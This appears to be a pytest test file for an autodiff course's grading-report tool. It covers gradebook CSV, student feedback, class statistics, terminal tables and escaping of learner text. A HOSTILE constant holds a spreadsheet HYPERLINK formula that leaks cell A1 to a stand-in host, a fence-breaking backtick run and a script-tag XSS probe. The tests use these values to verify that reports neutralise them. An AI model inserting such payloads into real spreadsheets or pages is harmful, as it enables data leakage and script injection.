"""compare's reports for a class, from rows made here (no grading): the gradebook, each
student's feedback, the class's statistics, learner text made inert in Markdown and CSV,
the speed shown only beyond the noise, and a terminal table that fits 80 columns, for this
course and for one of sixteen exercises in two parts."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from pathlib import Path

import pytest
from rich.console import Console

from autodiff_kata.compare import classwide, reports, table
from autodiff_kata.compare.batch import REFERENCE, Cell, Row
from autodiff_kata.compare.neutral import csv_cell, markdown_fenced, markdown_inline
from autodiff_kata.registry import EXERCISES, Exercise
from autodiff_kata.results import Kind, Status
from autodiff_kata.results import TestResult as Outcome  # not "Test...": pytest would collect it

TEACHER = "/home/teacher/class-2026/submissions"
LONG_DETAIL = (
    "0/3 tests, raised RuntimeError: [enforce fail at alloc_cpu.cpp:127] err == 0. "
    "DefaultCPUAllocator"
)
HOSTILE = '=HYPERLINK("http://x.example/?"&A1)\n```\n<script>alert(1)</script>\n````'


def sixteen_in_two_parts() -> list[Exercise]:
    """A course of sixteen exercises in two parts of eight, made of this course's."""
    return [
        dataclasses.replace(e, number=n + 1, part=1 + n // 8)
        for n, e in enumerate((EXERCISES * 2)[:16])
    ]


def cell(exercise: Exercise, outcome: Outcome | None, **given) -> Cell:
    """A cell as batch makes it: the status of its one test, and the test as data."""
    found = Cell(exercise.number, exercise.name, exercise.module, Status.NOT_RUN.value)
    if outcome is not None:
        found.status = outcome.status.value
        found.tests = [{**outcome.to_dict(), "message": outcome.detail}]
        found.message = outcome.detail
    return dataclasses.replace(found, **given)


def row(name: str, cells: list[Cell], **given) -> Row:
    return Row(name, name, f"{TEACHER}/{name}", cells, sha256="ab" * 32, **given)


def comparison(rows, exercises, similar=None) -> reports.Comparison:
    return reports.Comparison(
        rows=rows, exercises=exercises, similar=similar or {}, reference=f"{TEACHER}/ref",
        project="/home/teacher/kata", generated="2026-11-26T00:00:00+00:00", seconds=3, jobs=1,
    )  # fmt: skip


PASS = Outcome("test_reproduces_the_chapter", Kind.PASSED)


def wrong(test: str = "test_against_the_oracle[cpu]", said: str = "expected 1, got 2") -> Outcome:
    return Outcome(test, Kind.WRONG, said)


@pytest.fixture
def course() -> list[Exercise]:
    return list(EXERCISES[:3])


@pytest.fixture
def written(tmp_path, course) -> Path:
    first, second, third = course
    rows = [
        row("alice", [cell(first, PASS), cell(second, PASS), cell(third, PASS)]),
        row("bob", [cell(first, wrong()), cell(second, wrong(said=HOSTILE)), cell(third, None)]),
        row(
            "=carol",  # a folder name a spreadsheet would read as a formula
            [
                cell(first, wrong(), detail=HOSTILE, probe_note=HOSTILE),
                cell(second, Outcome("t", Kind.MISSING_FILE)),
                cell(third, Outcome("t", Kind.NOT_IMPLEMENTED, "the task", call="f")),
            ],
        ),
    ]
    out = tmp_path / "out"
    reports.write_all(comparison(rows, course), out)
    return out


# the gradebook ---------------------------------------------------------------------------


def test_the_gradebook_has_a_row_per_submission_a_column_per_exercise_then_the_total(
    written, course
):
    lines = list(csv.reader(io.StringIO((written / "gradebook.csv").read_text())))
    assert lines[0] == ["submission", *(e.label for e in course), "total"]
    assert lines[1:] == [
        ["alice", "1", "1", "1", "3"],
        ["bob", "0", "0", "0", "0"],
        ["'=carol", "0", "0", "0", "0"],
    ]


# each student's feedback -----------------------------------------------------------------


def test_each_student_gets_feedback_in_the_words_they_read_elsewhere(written, course):
    assert sorted(p.name for p in (written / "feedback").iterdir()) == [
        "=carol.md",
        "alice.md",
        "bob.md",
    ]
    alice = (written / "feedback" / "alice.md").read_text()
    assert "3 of 3 exercises pass." in alice
    assert "passed: 1 test of its grader pass." in alice
    carol = (written / "feedback" / "=carol.md").read_text()
    assert "0 of 3 exercises pass." in carol
    assert f"Next: {course[0].label}." in carol
    missing = course[1].filename
    assert f"kata/{missing} does not exist" in carol  # the module as the student knows it
    assert f"open kata/{course[2].filename} and write f(): the task" in carol


def test_feedback_names_no_folder_of_the_instructor_s_machine(tmp_path, course):
    said = f'  ex01.py:3 in f: open("{TEACHER}/bob/notes.txt")\nFileNotFoundError: {TEACHER}/x'
    raised = Outcome("t", Kind.RAISED, said, call="first_derivative")
    rows = [row("bob", [cell(course[0], raised), cell(course[1], None), cell(course[2], None)])]
    reports.write_all(comparison(rows, course), tmp_path)
    text = (tmp_path / "feedback" / "bob.md").read_text()
    assert "FileNotFoundError" in text
    assert "/home/teacher" not in text and "class-2026" not in text


def test_a_submission_that_could_not_be_graded_says_so(tmp_path, course):
    problem = f"OSError: {TEACHER}/dan/notes.txt is gone"
    rows = [row("dan", [cell(e, None) for e in course], problem=problem)]
    reports.write_all(comparison(rows, course), tmp_path)
    text = (tmp_path / "feedback" / "dan.md").read_text()
    assert "could not be graded (OSError: kata/notes.txt is gone); tell your instructor." in text
    assert "/home/teacher" not in text


# learner text, inert ---------------------------------------------------------------------


def test_markdown_shows_learner_text_as_text(written):
    text = (written / "report.md").read_text()
    outside_fences = re.sub(r"^(`{3,})\n.*?\n\1$", "", text, flags=re.MULTILINE | re.DOTALL)
    assert "<script" not in outside_fences
    assert "&lt;script&gt;" in outside_fences  # a table cell: as entities
    # A message: in a fence longer than any backtick run inside it, so it cannot close it.
    fences = re.findall(r"^(`{3,})$", text, flags=re.MULTILINE)
    assert "`````" in fences
    opened = text.index("`````\n")
    closed = text.index("\n`````", opened + 1)
    assert "<script>alert(1)</script>" in text[opened:closed]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_csv_cell_starts_a_formula(start):
    assert csv_cell(start + "SUM(A1:A9)") == "'" + start + "SUM(A1:A9)"
    assert csv_cell("3/3 tests") == "3/3 tests"


def test_the_csv_files_start_no_cell_with_a_formula(written):
    for name in ("results.csv", "gradebook.csv"):
        for line in csv.reader(io.StringIO((written / name).read_text(), newline="")):
            for value in line:
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    results = (written / "results.csv").read_text()
    assert "'=HYPERLINK" in results


def test_inline_markdown_escapes_what_would_format_or_link():
    assert markdown_inline("a|b *c* [d](e) <b> & `f`\nnext") == (
        "a\\|b \\*c\\* \\[d\\](e) &lt;b&gt; &amp; \\`f\\` next"
    )
    assert markdown_fenced("x ``` y").startswith("````\n")


# the speed, only beyond the noise --------------------------------------------------------


@pytest.mark.parametrize(
    ("ratio", "shown"),
    [(None, False), (2.5, False), (0.6, False), (4.9, False), (0.2, True), (0.03, True),
     (5.0, True), (40.0, True)],
)  # fmt: skip
def test_the_speed_is_shown_only_beyond_the_noise(ratio, shown):
    exercise = EXERCISES[0]
    found = cell(exercise, PASS, deviation=0.0, speed_ratio=ratio)
    assert ("speed" in "; ".join(reports.cell_lines(found))) == shown


# the class -------------------------------------------------------------------------------


def test_the_class_statistics_count_statuses_and_failed_grader_tests(course):
    first = course[0]
    rows = [
        row("a", [cell(first, wrong("test_one"))]),
        row("b", [cell(first, wrong("test_one"))]),
        row("c", [cell(first, wrong("test_two"))]),
        row("d", [cell(first, PASS)]),
    ]
    (tally,) = classwide.tallies(rows, [first])
    assert (tally.passed, tally.submissions, tally.pass_rate) == (1, 4, 0.25)
    assert tally.statuses == {"failed": 3, "passed": 1}
    assert tally.failed_tests.most_common() == [("test_one", 2), ("test_two", 1)]
    assert classwide.scores(rows) == [0, 0, 0, 1]


ACCUMULATE = "gradients accumulate from step to step: zero x.grad every step."
CACHED = "an answer cached from an earlier call; descend on every call."


def named(mistake: str, test: str = "test_one") -> Outcome:
    return Outcome(test, Kind.WRONG, "x after 3 steps: expected 1, got 2", mistake=mistake)


def test_the_class_statistics_count_each_likely_mistake_once_a_submission(tmp_path, course):
    first = course[0]
    twice = cell(first, named(ACCUMULATE))
    twice.tests.append({**named(ACCUMULATE, "test_two").to_dict(), "message": ""})
    rows = [
        row("a", [twice]),
        row("b", [cell(first, named(ACCUMULATE))]),
        row("c", [cell(first, named(CACHED))]),
        row("d", [cell(first, wrong())]),  # no mistake named
    ]
    (tally,) = classwide.tallies(rows, [first])
    assert tally.mistakes.most_common() == [(ACCUMULATE, 2), (CACHED, 1)]
    reports.write_all(comparison(rows, [first]), tmp_path)
    page = (tmp_path / "report.html").read_text()
    assert f"<li>2 submissions: {ACCUMULATE}</li>" in page
    assert f"<li>1 submission: {CACHED}</li>" in page
    assert f"{ACCUMULATE} (2); {CACHED} (1)" in (tmp_path / "report.md").read_text()


def test_pairs_sharing_code_in_several_exercises(course):
    one, two, three = course
    similar = {
        one.module: [["a", "b", "c"], ["d", REFERENCE]],
        two.module: [["a", "b"], ["d", REFERENCE]],
        three.module: [["a", "b"], ["c", "d"]],
    }
    pairs = classwide.shared_pairs(similar, course)
    assert [(p.first, p.second, [e.number for e in p.exercises]) for p in pairs] == [
        ("a", "b", [1, 2, 3]),
        ("d", REFERENCE, [1, 2]),  # the reference named last
    ]


def test_the_page_shows_the_class_and_its_plots(written):
    page = (written / "report.html").read_text()
    assert "<h2>The class</h2>" in page
    assert "1/3 (33%)" in page  # the pass rate of exercise 1
    assert "test_against_the_oracle[cpu]</code>: 2 submissions" in page
    assert page.count("<svg") == 2
    assert "Score distribution" in page and "Pass rate per exercise" in page
    assert "<script" not in page.replace("&lt;script", "")


# the terminal ----------------------------------------------------------------------------


def terminal(comparison_: reports.Comparison, width: int) -> list[str]:
    console = Console(file=io.StringIO(), width=width, color_system=None)
    table.print_table(comparison_, console)
    return console.file.getvalue().splitlines()


def long_class(exercises: list[Exercise]) -> reports.Comparison:
    outcomes = [PASS, wrong(said="x"), Outcome("t", Kind.NOT_IMPLEMENTED)]
    rows = []
    for n, name in enumerate(["ann", "a_submission_named_after_a_long_folder_of_its_own", "cy"]):
        cells = [cell(e, outcomes[(n + k) % 3]) for k, e in enumerate(exercises)]
        cells[0] = dataclasses.replace(cells[0], detail=LONG_DETAIL, status="failed")
        rows.append(row(name, cells))
    similar = {e.module: [["ann", "cy"]] for e in exercises}
    return comparison(rows, exercises, similar)


@pytest.mark.parametrize(
    "exercises", [list(EXERCISES), sixteen_in_two_parts()], ids=["the course", "sixteen"]
)
def test_the_terminal_table_fits_80_columns_and_cuts_nothing(exercises):
    lines = terminal(long_class(exercises), 80)
    assert max(len(line) for line in lines) <= 80
    text = " ".join(line.strip() for line in lines)
    assert LONG_DETAIL in text  # folded, not cut
    assert "a_submission_named_after_a_long_folder_of_its_own" in lines
    header = next(line for line in lines if line.startswith("submission"))
    assert header.split()[2:] == [f"{e.number:02d}" for e in exercises]


def test_a_course_in_two_parts_is_shown_by_part():
    lines = terminal(long_class(sixteen_in_two_parts()), 80)
    titles = next(line for line in lines if "part 1" in line)
    assert titles.split() == ["part", "1", "part", "2"]


def test_a_narrow_terminal_gets_one_table_per_part():
    lines = terminal(long_class(sixteen_in_two_parts()), 60)
    assert max(len(line) for line in lines) <= 60
    headers = [line.split()[2:] for line in lines if line.startswith("submission")]
    assert headers == [[f"{n:02d}" for n in range(1, 9)], [f"{n:02d}" for n in range(9, 17)]]


def test_counts_read_as_a_person_says_them(course):
    lines = terminal(comparison([row("solo", [cell(e, PASS) for e in course])], course), 80)
    assert any(line.startswith("1 submission in 3 s with 1 job.") for line in lines)


def test_without_matplotlib_the_page_says_how_to_get_the_plots(tmp_path, course, monkeypatch):
    monkeypatch.setattr(reports.plots, "available", lambda: False)
    rows = [row("alice", [cell(e, PASS) for e in course])]
    reports.write_all(comparison(rows, course), tmp_path)
    page = (tmp_path / "report.html").read_text()
    assert "<svg" not in page
    assert "pip install 'autodiff-kata[compare]'" in page
    assert "1/1 (100%)" in page  # the rest of the class's statistics, as usual
